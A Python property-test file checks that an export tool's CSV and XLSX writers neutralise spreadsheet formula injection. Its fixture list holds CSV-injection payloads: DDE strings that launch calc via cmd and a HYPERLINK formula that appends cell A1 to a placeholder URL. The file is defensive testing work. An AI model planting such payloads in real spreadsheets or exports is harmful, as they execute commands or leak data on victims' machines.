"""Property tests for the export's formula-injection defence (``app.export.text``) and for
the CSV and XLSX writers that apply it.

What must hold for any text a user file or a source could put in a cell:

- after escaping, no TEXT cell starts with ``=``, ``+``, ``-``, ``@``, TAB or CR;
- escaping is idempotent (escaping twice = once) and lossless (drop the one added quote and
  the original comes back), so a re-export never piles up quotes;
- NUMBER cells are never escaped: ``-5`` stays ``-5`` and parses back to the same float;
- the CSV is still one record per row with every cell intact (commas, quotes, newlines,
  Arabic) when read by a standard CSV reader; the XLSX holds no formula cell at all.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from app import ooxml
from app.export.columns import EXPORT_COLUMNS, ColumnType, column_type
from app.export.csv_writer import csv_chunks
from app.export.rows import ExportTable
from app.export.text import FORMULA_TRIGGERS, cell_text, neutralise, number_text

from .strategies import EXAMPLES, FUZZ, MESSY_TEXT

PAYLOADS = st.sampled_from(
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted",
        "=",
        "-",
        "-5",
        'إدلب, "Idleb"\nline two',
    ]
)
TEXT = st.one_of(PAYLOADS, MESSY_TEXT, st.text(max_size=30), st.just("\x00\x1b=1+1\x0b"))
FINITE = st.floats(allow_nan=False, allow_infinity=False, min_value=-1e18, max_value=1e18)


@FUZZ
@given(TEXT)
@example("")
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert neutralise(out) == out  # idempotent
    assert out == text or (out == "'" + text and text.startswith(FORMULA_TRIGGERS))  # lossless


@FUZZ
@given(TEXT)
def test_text_cells_are_escaped_whatever_they_look_like(text: str) -> None:
    out = cell_text(text, ColumnType.TEXT)
    assert not out.startswith(FORMULA_TRIGGERS)


@FUZZ
@given(st.one_of(FINITE, st.integers(min_value=-(10**15), max_value=10**15)))
@example(-5.0)
@example(-0.0)
@example(1e-300)
def test_numbers_stay_numbers(value: float) -> None:
    out = cell_text(value, ColumnType.NUMBER)
    assert out == number_text(value)
    assert float(out) == float(value) or (math.isclose(float(out), value))
    assert not out.startswith("'")


def _frame(rows: list[dict]) -> pd.DataFrame:
    frame = pd.DataFrame(rows, columns=EXPORT_COLUMNS)
    for c in EXPORT_COLUMNS:
        if column_type(c) is ColumnType.NUMBER:
            frame[c] = frame[c].astype(float)
    return frame


def _row(draw: st.DrawFn) -> dict:
    row: dict = {}
    for c in EXPORT_COLUMNS:
        kind = column_type(c)
        if kind is ColumnType.TEXT:
            row[c] = draw(st.one_of(st.none(), TEXT))
        elif kind is ColumnType.NUMBER:
            row[c] = draw(st.one_of(st.none(), FINITE))
        elif kind is ColumnType.INTEGER:
            row[c] = draw(st.integers(min_value=1, max_value=10**6))
        elif kind is ColumnType.DATE:
            row[c] = draw(
                st.one_of(
                    st.none(),
                    st.datetimes(
                        min_value=dt.datetime(1990, 1, 1), max_value=dt.datetime(2100, 1, 1)
                    ).map(lambda d: pd.Timestamp(d.date())),
                )
            )
        else:
            row[c] = draw(st.booleans())
    return row


ROWS = st.lists(st.composite(lambda draw: _row(draw))(), min_size=1, max_size=5)


@FUZZ
@given(ROWS, st.booleans())
def test_csv_cells_survive_a_csv_reader_escaped(rows: list[dict], hxl: bool) -> None:
    frame = _frame(rows)
    text = "".join(csv_chunks(ExportTable(frame, ("idps_present",)), hxl=hxl))
    assert text.startswith("\ufeff")
    records = list(csv.reader(io.StringIO(text[1:], newline="")))
    header, body = records[0], records[2:] if hxl else records[1:]
    assert header == EXPORT_COLUMNS and len(body) == len(rows)
    for record, row in zip(body, rows, strict=True):
        assert len(record) == len(EXPORT_COLUMNS)
        for c, cell in zip(EXPORT_COLUMNS, record, strict=True):
            kind, value = column_type(c), row[c]
            if kind is ColumnType.TEXT:
                assert cell == ("" if value is None else neutralise(value))
                assert not cell.startswith(FORMULA_TRIGGERS)
            elif kind is ColumnType.NUMBER and value is not None:
                assert float(cell) == pytest.approx(value, rel=1e-15, abs=0)


def _as_xlsx_keeps_it(text: str) -> str:
    """XML cannot hold most C0 control characters (the writer puts U+FFFD in their place);
    a carriage return, and text that looks like its escape, are escaped as spreadsheets
    escape them (``_x000D_``, ``_x005F_``: app.ooxml), which openpyxl does not undo."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", ooxml.escape(text))


@settings(FUZZ, max_examples=EXAMPLES // 2)  # a workbook per example
@given(ROWS)
def test_xlsx_has_no_formula_and_text_is_escaped(rows: list[dict]) -> None:
    from openpyxl import load_workbook

    from app.export.xlsx_writer import readme_from_datapackage, xlsx_bytes

    readme = readme_from_datapackage({}, [("note", "=1+1")], dt.datetime(2020, 3, 8, tzinfo=dt.UTC))
    frame = _frame(rows)
    book = load_workbook(io.BytesIO(xlsx_bytes(ExportTable(frame, ("idps_present",)), readme)))
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    data = book.worksheets[-1]
    for values, row in zip(data.iter_rows(min_row=2, values_only=True), rows, strict=True):
        for c, got in zip(EXPORT_COLUMNS, values, strict=True):
            if column_type(c) is ColumnType.TEXT and row[c] not in (None, ""):
                assert got == _as_xlsx_keeps_it(neutralise(row[c]))
                read = ooxml.unescape(got)  # as a spreadsheet, or `add`, reads the cell
                assert read == ILLEGAL_CHARACTERS_RE.sub("\ufffd", neutralise(row[c]))
            if column_type(c) is ColumnType.NUMBER and row[c] is not None:
                assert isinstance(got, int | float) and got == pytest.approx(row[c])
